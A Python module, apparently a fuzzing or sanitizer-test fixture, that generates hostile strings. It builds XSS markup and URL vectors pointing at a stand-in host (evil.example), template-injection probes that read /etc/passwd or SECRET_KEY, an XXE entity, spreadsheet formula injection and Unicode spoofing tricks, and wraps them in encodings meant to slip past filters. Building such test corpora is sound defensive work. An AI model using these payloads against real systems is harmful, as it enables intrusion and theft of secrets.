"""Texts that try to be more than text: vectors of injection, in disguises that browsers and templates look through."""

import base64
import html
from collections.abc import Callable, Iterator
from itertools import islice, product
from urllib.parse import quote

ELSEWHERE = "https://evil.example"
CALL = "alert(1)"
ENCODED_PAGE = base64.b64encode(f"<script>{CALL}</script>".encode()).decode()

MARKUP = (
    f"<script>{CALL}</script>",
    f"<script src={ELSEWHERE}/x.js></script>",
    f"<img src=x onerror={CALL}>",
    f"<img src={ELSEWHERE}/pixel.png>",
    f"<svg onload={CALL}>",
    f"<svg><animate onbegin={CALL} attributeName=x dur=1s>",
    f"<svg><use href={ELSEWHERE}/a.svg#x>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={CALL}>",
    f"<iframe src={ELSEWHERE}></iframe>",
    f"<iframe srcdoc='<script>{CALL}</script>'></iframe>",
    f"<object data={ELSEWHERE}></object>",
    f"<embed src={ELSEWHERE}>",
    f"<link rel=stylesheet href={ELSEWHERE}/x.css>",
    f"<style>@import '{ELSEWHERE}/x.css'</style>",
    f"<p style=background:url({ELSEWHERE}/x)>",
    f"<base href={ELSEWHERE}/>",
    f"<meta http-equiv=refresh content='0;url={ELSEWHERE}'>",
    f"<form action={ELSEWHERE}><button autofocus>Go</button></form>",
    f"<button form=x formaction={ELSEWHERE}>Go</button>",
    f"<a href=javascript:{CALL}>here</a>",
    f"<a href=data:text/html;base64,{ENCODED_PAGE}>here</a>",
    f"<input autofocus onfocus={CALL}>",
    f"<details open ontoggle={CALL}>",
    f"<video autoplay onloadstart={CALL}><source src=x></video>",
    f"<body onload={CALL}>",
    f"<template><script>{CALL}</script></template>",
    f"<div hx-get={ELSEWHERE} hx-trigger=load></div>",
    f"<div hx-on::load={CALL}></div>",
    f"<div data-hx-get={ELSEWHERE} data-hx-trigger=load></div>",
    f"<!--><script>{CALL}</script>-->",
    f"<![CDATA[<script>{CALL}</script>]]>",
)
# Each ends something that the page may have begun around it.
BREAKERS = ('"', "'", '">', "'>", "</textarea>", "</title>", "</script>", "-->", "</template></td></table>")
ATTRIBUTES = (f"onmouseover={CALL}", f"autofocus onfocus={CALL}", f"style=background:url({ELSEWHERE}/x)")
ADDRESSES = (
    f"javascript:{CALL}",
    f"JaVaScRiPt:{CALL}",
    f"java\tscript:{CALL}",
    f"data:text/html,<script>{CALL}</script>",
    f"data:text/html;base64,{ENCODED_PAGE}",
    f"vbscript:{CALL}",
    "//evil.example/x",
    "\\\\evil.example\\x",
    f"{ELSEWHERE}/x.png",
)
MARKDOWN = ("![a]({})", "[a]({})", "[a]: {}", "<{}>", "[![a]({0})]({0})")
TEMPLATES = (
    "{{ 7|add:7 }}", "{{7*7}}", "{% debug %}", "{% include '/etc/passwd' %}", "{{ request.user.password }}",
    "${7*7}", "#{7*7}", "<%= 7*7 %>", "{0.__class__.__init__.__globals__}", "{settings.SECRET_KEY}", "%(password)s",
    "%s%s%s%n", "[[${7*7}]]", "{{constructor.constructor('alert(1)')()}}", "{{=7*7}}", "*{7*7}", "@{7*7}", "{{!--",
)  # fmt: skip
TRICKS = (
    "\N{RIGHT-TO-LEFT OVERRIDE}txt.exe", "a\N{ZERO WIDTH SPACE}b\N{ZERO WIDTH JOINER}c", "Z\u0351\u0352\u0353algo",
    "\N{FULLWIDTH LESS-THAN SIGN}script\N{FULLWIDTH GREATER-THAN SIGN}alert(1)", "\U000e0041\U000e0042 tags",
    "\N{SINGLE LEFT-POINTING ANGLE QUOTATION MARK}b\N{SINGLE RIGHT-POINTING ANGLE QUOTATION MARK}", "\u2028line",
    "p\N{CYRILLIC SMALL LETTER A}ypal", "\N{REPLACEMENT CHARACTER}<b>", "é\u0301\u0301",
    "\ufdfa",
    "=HYPERLINK(\"https://evil.example\")", "+cmd|' /C calc'!A0", "@SUM(1+1)", "%3Cscript%3E", "\\u003cscript\\u003e",
    "');alert(1);//", "\"}]};alert(1)//", "`${alert(1)}`", "\\';alert(1)//", "/*</style>*/", "expression(alert(1))",
    "]]>", "<!ENTITY x SYSTEM 'file:///etc/passwd'>&x;", "<?xml version='1.0'?>", "&lt;b&gt;&amp;&#60;",
)  # fmt: skip


def plain(vector: str) -> str:
    """Return it as it is."""
    return vector


def entities(vector: str) -> str:
    """Write it as text that a second reader would take for markup."""
    return html.escape(vector)


def numbered(vector: str) -> str:
    """Write its marks as numbers, without their semicolons."""
    return vector.replace("<", "&#x3c").replace(">", "&#62")


def percent(vector: str) -> str:
    """Write it as in an address."""
    return quote(vector)


def mixed(vector: str) -> str:
    """Change the case of every second letter, as filters by name overlook."""
    return "".join(letter.upper() if place % 2 else letter for place, letter in enumerate(vector))


def fenced(vector: str) -> str:
    """Put it among the marks of markdown."""
    return f"> **{vector}** `{vector[:9]}"


DISGUISES: tuple[Callable[[str], str], ...] = (plain, entities, numbered, mixed, fenced, percent)


def _vectors() -> Iterator[str]:
    for disguise in DISGUISES:
        yield from map(disguise, MARKUP)
    for breaker, inner in product(BREAKERS, (*ATTRIBUTES, MARKUP[0], MARKUP[2], MARKUP[4], MARKUP[8], MARKUP[26])):
        yield f"{breaker} {inner} {breaker}"
    for frame, address in product(MARKDOWN, ADDRESSES):
        yield frame.format(address)
    yield from ADDRESSES
    yield from TEMPLATES
    yield from TRICKS
    for breaker, text in product(BREAKERS, (*TEMPLATES, *TRICKS)):
        yield f"{breaker}{text}"


def hostile_texts(count: int) -> list[str]:
    """Return as many texts, each with a number by which it is recognised at its end, none beyond 160 characters."""
    short = (vector for vector in _vectors() if len(vector) <= 150)
    return [f"{vector} x{number:03}x" for number, vector in enumerate(islice(short, count))]
